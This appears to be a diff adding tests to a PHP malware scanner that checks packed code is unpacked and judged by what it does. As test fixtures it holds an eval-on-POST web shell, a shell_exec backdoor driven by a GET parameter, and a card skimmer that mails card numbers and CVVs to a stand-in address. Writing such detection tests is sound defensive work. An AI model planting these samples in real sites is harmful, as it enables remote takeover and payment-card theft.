@@ -6,6 +6,8 @@ import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { deflateRawSync } from 'node:zlib';
 import { analysePhp } from '../../../src/integrity/scan/php-analysis.ts';
+import { loadCodeRules } from '../../../src/integrity/scan/rules.ts';
+import { scanContent } from '../../../src/integrity/scan/scanner.ts';
 import { reportAt } from '../../../src/integrity/scan/signals.ts';
 
 /** Every byte percent-encoded, as PHP's rawurlencode does for binary. */
@@ -41,4 +43,46 @@ test('rawurldecode decodes percent-escaped bytes one by one (binary for gzinflat
   const shell = "if (isset($_POST['k'])) { eval($_POST['k']); }";
   const text = `<?php eval(gzinflate(rawurldecode('${rawurlencode(deflateRawSync(Buffer.from(shell)))}')));`;
   assert.ok(analysePhp(text).signals.some((s) => s.id === 'php-request-to-eval'));
+});
+
+const rules = loadCodeRules();
+const scan = (text: string) =>
+  scanContent(text, { path: 'app/code/local/V/L.php', rel: 'app/code/local/V/L.php' }, rules);
+const ids = (text: string) => scan(text).map((f) => f.rule);
+
+test('the packing rules yield to what the unpacked code does, where every layer was read through', () => {
+  const licence =
+    "class Vendor_Licence { public function isValid($key) { return hash_hmac('sha256', $_SERVER['HTTP_HOST'], 'v') === $key; } }";
+  // The rules see eval(gzinflate(rawurldecode(…))) and eval(base64_decode(…)); the code is a licence check.
+  assert.ok(ids(pack(licence, 2)).length === 0, ids(pack(licence, 2)).join(', '));
+  // Packed the same way, a backdoor is reported: the rules read the unpacked code too.
+  const found = scan(pack("echo shell_exec($_GET['c']);", 2));
+  assert.ok(
+    found.some((f) => f.rule === 'php-exec-request' && f.match.includes('unpacked')),
+    JSON.stringify(found),
+  );
+  // A layer that runs code it cannot fold (the packer's next stage, unread) leaves the rules standing.
+  const unread = ids(pack('eval(gzinflate(base64_decode($GLOBALS[$k])));', 2));
+  assert.ok(unread.includes('php-eval-decoded'), unread.join(', '));
+});
+
+test('a layer cut at the fold bound is not read through: the packing rules stand', () => {
+  const body = `?><?php echo 1; /* ${'x'.repeat(120_000)} */`;
+  const line = (b: string) =>
+    `<?php $b = '${Buffer.from(b, 'latin1').toString('base64')}'; eval('?>' . base64_decode($b));\n`;
+  // Whole (under the bound), the file is read through; cut, the packed blob is reported as before.
+  assert.deepEqual(ids(line(body.slice(0, 60_000))), []);
+  assert.ok(ids(line(body)).includes('php-encoded-blob-eval'), ids(line(body)).join(', '));
+});
+
+test("an unpacked layer reads its loader's variables: card data built outside, mailed inside", () => {
+  const loader = (inner: string) => `<?php
+class Gateway { public function send($payment) {
+  $message = 'CcNumber: ' . trim($payment->getCcNumber()) . ' Cvv: ' . trim($payment->getCcCid());
+  $x = @eval(gzinflate(base64_decode('${deflateRawSync(Buffer.from(inner)).toString('base64')}')));
+} }
+`;
+  const found = ids(loader("mail('drop@example.invalid', 'order', $message);"));
+  assert.ok(found.includes('php-card-data-sent-out'), found.join(', '));
+  assert.deepEqual(ids(loader("error_log('order sent');")), []);
 });
